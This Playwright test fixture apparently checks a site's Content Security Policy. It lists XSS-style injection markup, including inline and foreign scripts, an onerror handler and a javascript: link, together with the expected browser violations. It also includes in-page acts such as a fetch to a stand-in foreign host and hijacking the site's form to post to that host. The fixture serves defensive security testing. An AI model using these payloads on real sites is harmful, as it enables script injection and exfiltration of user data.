import type { Page } from '@playwright/test';
import { foreign } from './intruder';
import { whenReady } from './ready';

/** What somebody could do who got markup or code into a page. */

const mark = "window.ran = 'inline'";

/** Markup in the served page. */
export const served = {
  inlineScript: `<script>${mark}</script>`,
  foreignScript: `<script src="${foreign}/a.js"></script>`,
  dataScript: `<script src="data:text/javascript,${encodeURIComponent(mark)}"></script>`,
  handler: `<img src="/none.png" alt="" onerror="${mark}">`,
  scriptLink: `<a id="link" href="javascript:void(${mark})">free</a>`,
  picture: `<img src="${foreign}/pixel.png" alt="">`,
  styleSheet: `<link rel="stylesheet" href="${foreign}/a.css">`,
  style: `<style>body { background: url(${foreign}/read.png) }</style>`,
  styleAttribute: `<p style="background: url(${foreign}/attribute.png)">free</p>`,
  form: `<form method="post" action="${foreign}/text"><button id="post">free</button></form>`,
  frame: `<iframe src="${foreign}/frame"></iframe>`,
  object: `<object data="${foreign}/object" type="text/html"></object>`,
};

/** The violations that the browser reports for it: directive, and what was blocked; of a frame only its origin. */
export const blockedMarkup = [
  'script-src-elem inline',
  `script-src-elem ${foreign}/a.js`,
  'script-src-elem data',
  'script-src-attr inline',
  `img-src ${foreign}/pixel.png`,
  `style-src-elem ${foreign}/a.css`,
  'style-src-elem inline',
  `img-src ${foreign}/attribute.png`,
  `form-action ${foreign}/text`,
  `frame-src ${foreign}`,
  `object-src ${foreign}`,
];

/** Code that runs in the page, as a script of the site would that was led astray, and the directive that stops it. */
export const acts = {
  'a script element that a script inserts': {
    directive: 'script-src-elem',
    act: (page: Page) =>
      page.evaluate((code) => {
        const script = document.createElement('script');
        script.textContent = code;
        document.body.append(script);
      }, mark),
  },
  'code out of a text': {
    directive: 'script-src',
    act: (page: Page) =>
      page.evaluate((code) => void Reflect.apply(setTimeout, window, [code]), mark),
  },
  'a worker out of a text': {
    directive: 'worker-src',
    act: (page: Page) =>
      page.evaluate(() => {
        const worker = new Worker(URL.createObjectURL(new Blob(["postMessage('worker')"])));
        worker.onmessage = ({ data }) => Object.assign(window, { ran: String(data) });
      }),
  },
  'a foreign font': {
    directive: 'font-src',
    act: (page: Page) =>
      page.evaluate(
        (source) => void new FontFace('stolen', source).load().catch(() => undefined),
        `url(${foreign}/a.woff2)`,
      ),
  },
  'a request to a foreign host': {
    directive: 'connect-src',
    act: (page: Page) =>
      page.evaluate(
        (url) => void fetch(url, { mode: 'no-cors' }).catch(() => undefined),
        `${foreign}/text`,
      ),
  },
  'the site’s own form posted to a foreign host': {
    directive: 'form-action',
    act: async (page: Page) => {
      await whenReady(page);
      await page.evaluate((action) => {
        const form = document.querySelector<HTMLFormElement>('footer form');
        const button = document.createElement('button');
        Object.assign(button, { formAction: action, formNoValidate: true });
        form?.addEventListener('submit', (event) => event.stopImmediatePropagation(), true);
        form?.append(button);
        button.click();
      }, `${foreign}/text`);
    },
  },
  'another base for the page’s addresses': {
    directive: 'base-uri',
    act: (page: Page) =>
      page.evaluate((href) => {
        document.head.prepend(Object.assign(document.createElement('base'), { href }));
        new Image().src = 'pixel.png';
      }, `${foreign}/`),
  },
};
